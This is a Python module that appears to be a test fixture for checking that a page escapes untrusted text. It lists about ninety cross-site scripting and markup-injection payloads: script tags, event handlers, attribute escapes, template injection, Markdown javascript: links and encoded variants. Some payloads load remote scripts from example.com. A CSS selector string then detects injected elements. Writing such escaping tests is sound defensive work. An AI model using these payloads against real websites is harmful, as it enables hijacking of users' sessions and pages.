"""Texts that run a script, load a file or navigate away if a page treats them as markup; each is one line.

Scripts set `window.hacked` or open a dialog; files are loaded from example.com.
"""

from __future__ import annotations

PAYLOADS = (
    # Elements that run a script.
    "<script>window.hacked=1</script>",
    "<ScRiPt >window.hacked=1</sCrIpT>",
    "</script><script>window.hacked=1</script>",
    "<script src=//example.com/a.js></script>",
    "<script type=module>import 'http://example.com/m.js'</script>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<svg><script>window.hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src='javascript:parent.hacked=1'></iframe>",
    "<iframe src=http://example.com/frame></iframe>",
    "<object data='javascript:window.hacked=1'></object>",
    "<object data=http://example.com/o></object>",
    "<embed src=http://example.com/e.swf>",
    "<base href=http://example.com/>",
    "<meta http-equiv=refresh content='0;url=http://example.com/'>",
    "<link rel=stylesheet href=http://example.com/a.css>",
    "<link rel=prefetch href=http://example.com/p>",
    "<style>@import 'http://example.com/b.css'</style>",
    "<style>*{display:none!important}</style>",
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
    # Handlers of events.
    "<img src=x onerror=window.hacked=1>",
    "<img src=x onerror='alert(1)'>",
    "<img/src=`x`onerror=window.hacked=1>",
    "<IMG SRC=x OnErRoR=window.hacked=1 ",
    "<img src='x' onerror=&#119;indow.hacked=1>",
    "<svg onload=alert(1)>",
    "<svg/onload=window.hacked=1>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'/></svg>",
    "<body onload=window.hacked=1>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<select autofocus onfocus=window.hacked=1>",
    "<textarea autofocus onfocus=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<video src=http://example.com/v poster=http://example.com/p.png>",
    "<audio src=x onerror=window.hacked=1>",
    "<marquee onstart=window.hacked=1>",
    "<div style='animation-name:x' onanimationstart=window.hacked=1>",
    "<div style='background:url(http://example.com/bg.png)'>",
    "<p onmouseover=window.hacked=1>p</p>",
    "<x contenteditable onblur=window.hacked=1 tabindex=0>x</x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    # Escapes from a surrounding attribute, element or comment.
    '" onmouseover="window.hacked=1" x="',
    "' onfocus='window.hacked=1' autofocus x='",
    '"><img src=x onerror=window.hacked=1>',
    "'><svg onload=alert(1)>",
    "</textarea><img src=x onerror=window.hacked=1>",
    "</title><img src=x onerror=window.hacked=1>",
    "</p></div></del><p class='short'>Hacked</p>",
    "--><img src=x onerror=window.hacked=1><!--",
    "]]><img src=x onerror=window.hacked=1>",
    "<!--<img src='--><img src=x onerror=window.hacked=1>'>",
    "<a class='cite' href='#cite:a:0:1'>stolen</a>",
    # Template languages, including that of the page.
    "${window.hacked=1}",
    "${alert(1)}",
    "`${window.hacked=1}`",
    "$\\{window.hacked=1\\} ${'${window.hacked=1}'}",
    "{{window.hacked=1}}",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{@html '<img src=x onerror=window.hacked=1>'}",
    "#{window.hacked=1} <%= window.hacked=1 %>",
    # Markdown.
    "![image](http://example.com/image.png)",
    "![image](x 'onerror=window.hacked=1')",
    "![image][reference] [reference]: http://example.com/r.png",
    "[link](javascript:window.hacked=1)",
    "[link](JaVaScRiPt:window.hacked=1)",
    "[link](java&#10;script:window.hacked=1)",
    "[link](data:text/html,<script>alert(1)</script>)",
    "[link](http://example.com/link)",
    "<http://example.com/auto> http://example.com/bare",
    "<javascript:window.hacked=1>",
    "$$\\href{javascript:window.hacked=1}{x}$$",
    "\\(\\includegraphics{http://example.com/i.png}\\)",
    "```html <img src=x onerror=window.hacked=1> ```",
    # HTML links and forms.
    "<a href='javascript:window.hacked=1'>a</a>",
    "<a href=' &#1; javascript:window.hacked=1'>a</a>",
    "<a href='java\tscript:window.hacked=1'>a</a>",
    "<a href='vbscript:window.hacked=1'>a</a>",
    "<a href='data:text/html,<script>parent.hacked=1</script>'>a</a>",
    "<form action='javascript:window.hacked=1'><button>b</button></form>",
    "<button formaction='javascript:window.hacked=1'>b</button>",
    # Text that is already escaped, or written in another way.
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "\\u003cimg src=x onerror=window.hacked=1\\u003e",
    "%3Cimg%20src=x%20onerror=window.hacked=1%3E",
    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
    "\u202e<img src=x onerror=window.hacked=1>\u202c",
    "\u2028<img src=x onerror=window.hacked=1>\u2029",
    "__proto__ constructor toString",
)
"""About ninety payloads."""

FOREIGN = ", ".join(
    f":is(#chat .message-content, #source, #masthead, #article-list, #outcomes) {tag}"
    for tag in (
        "script", "img", "svg", "iframe", "object", "embed", "style", "video", "audio",
        "form:not(.reading > form)", "input:not([name=only], .reading input, .tools input)",
        "select:not(.tools > select)", "textarea", "math", "marquee", "template", "base", "link", "meta",
        ".katex", "[onerror]", "[onload]", "[onmouseover]", "[onfocus]", 'a[href^="javascript:" i]',
        'a[href^="data:" i]', 'a[href^="http" i]', 'a[href^="//"]',
    )
)  # fmt: skip
"""Selects elements that exist only where a text was treated as markup."""
